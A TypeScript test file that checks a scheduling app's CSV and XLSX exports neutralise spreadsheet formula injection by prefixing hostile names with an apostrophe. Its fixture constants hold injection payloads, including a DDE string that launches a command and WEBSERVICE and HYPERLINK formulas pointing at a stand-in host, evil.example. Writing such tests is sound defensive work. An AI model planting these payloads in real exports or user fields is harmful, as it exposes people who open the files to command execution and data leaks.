/**
 * Formula neutralisation in the schedule exports (issue 7, item 6): a schedule whose body, room,
 * panel and category names begin like formulas (as an import or a form may store them) is exported
 * as CSV and XLSX; read back, no cell begins like a formula and every hostile name is there with
 * its neutralising apostrophe. Before, the CSV let "=1\n2" through and the XLSX escaped nothing.
 */
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { SessionUser } from '$lib/server/auth/session';
import { documentStamp } from '$lib/server/audit-stamp';
import { scheduleCsv, scheduleRows, scheduleXlsx } from '$lib/server/export/schedule-export';
import { startTestApp, type Fixture, type TestApp } from '../harness';

let app: TestApp;
let fx: Fixture;
let admin: SessionUser;

const HOSTILE_BODIES = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=1\n2', '  =1', '=HYPERLINK("http://evil.example","klik")'];
const HOSTILE = {
	room: '@SUM(A1)',
	panel: '+62 812 3456',
	category: '-cmd|" /C calc"!A0',
	evaluation: '=WEBSERVICE("http://evil.example")',
	harmless: 'a\n=1'
};

beforeAll(async () => {
	app = await startTestApp();
	fx = await app.fixture();
	admin = (await app.signInAdmin()).user;
	const slots = fx.panelA.slots.slice(0, HOSTILE_BODIES.length);
	for (const [i, slot] of slots.entries())
		await app.db.updateTable('bodies').set({ name: HOSTILE_BODIES[i] }).where('id', '=', slot.bodyId).execute();
	await app.db.updateTable('bodies').set({ name: HOSTILE.harmless }).where('id', '=', fx.panelB.slots[0].bodyId).execute();
	await app.db.updateTable('panels').set({ room: HOSTILE.room, name: HOSTILE.panel }).where('id', '=', fx.panelA.id).execute();
	const body = await app.db
		.selectFrom('bodies')
		.select('category_id')
		.where('id', '=', fx.panelA.slots[0].bodyId)
		.executeTakeFirstOrThrow();
	await app.db.updateTable('categories').set({ name: HOSTILE.category }).where('id', '=', body.category_id).execute();
	// The evaluation's name goes into every export's stamp.
	await app.db.updateTable('evaluations').set({ name: HOSTILE.evaluation }).where('id', '=', fx.evaluationId).execute();
});
afterAll(() => app.close());

/** What a spreadsheet would run as a formula: a text cell beginning with = + - @, tab or CR, maybe after spaces. */
const beginsLikeFormula = (cell: unknown) => typeof cell === 'string' && /^(\s*[=+\-@]|[\t\r])/.test(cell);

test('CSV: no cell begins like a formula; hostile names are kept, behind an apostrophe', async () => {
	const csv = scheduleCsv(await scheduleRows(app.ctx, admin, fx.evaluationId), await documentStamp(app.db, fx.evaluationId), 'id');
	// The stamp line is a `#` comment of ids and hashes only: no name, nothing a spreadsheet could run.
	expect(csv).not.toContain(HOSTILE.evaluation);
	const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true, comments: '#' });
	expect(parsed.errors).toEqual([]);
	const cells = parsed.data.flat();
	expect(cells.filter(beginsLikeFormula)).toEqual([]);
	const bodies = parsed.data.slice(1).map((row) => row[8]);
	for (const name of HOSTILE_BODIES) expect(bodies).toContain(`'${name}`);
	expect(bodies).toContain(HOSTILE.harmless);
	expect(cells).toEqual(expect.arrayContaining([`'${HOSTILE.room}`, `'${HOSTILE.panel}`, `'${HOSTILE.category}`]));
	// One row per slot: the line breaks inside names stayed inside their quoted cells.
	expect(parsed.data).toHaveLength((await app.db.selectFrom('slots').select('id').execute()).length + 1);
});

test('XLSX: no text cell begins like a formula; hostile names are kept, behind an apostrophe; positions stay numbers', async () => {
	const workbook = new ExcelJS.Workbook();
	const rows = await scheduleRows(app.ctx, admin, fx.evaluationId);
	await workbook.xlsx.load((await scheduleXlsx(rows, await documentStamp(app.db, fx.evaluationId), 'id')) as unknown as ExcelJS.Buffer);
	const sheet = workbook.worksheets[0];
	const cells: ExcelJS.CellValue[] = [];
	// Every sheet, the stamp's 'Info' sheet (with the evaluation's name) included.
	for (const each of workbook.worksheets) each.eachRow((row) => row.eachCell((cell) => cells.push(cell.value)));
	expect(cells.filter(beginsLikeFormula)).toEqual([]);
	// No formula or rich-text objects; the days and times are dates.
	expect(cells.filter((c) => typeof c === 'object' && c !== null && !(c instanceof Date))).toEqual([]);
	// XML turns a carriage return into a line feed when read (exceljs writes it unescaped).
	const asRead = (text: string) => text.replace(/\r\n?/g, '\n');
	for (const name of [...HOSTILE_BODIES, HOSTILE.room, HOSTILE.panel, HOSTILE.category, HOSTILE.evaluation]) {
		expect(cells).toContain(asRead(`'${name}`));
	}
	expect(cells).toContain(HOSTILE.harmless);
	const positions = sheet.getColumn(7).values.slice(2);
	expect(positions.every((p) => typeof p === 'number')).toBe(true);
});
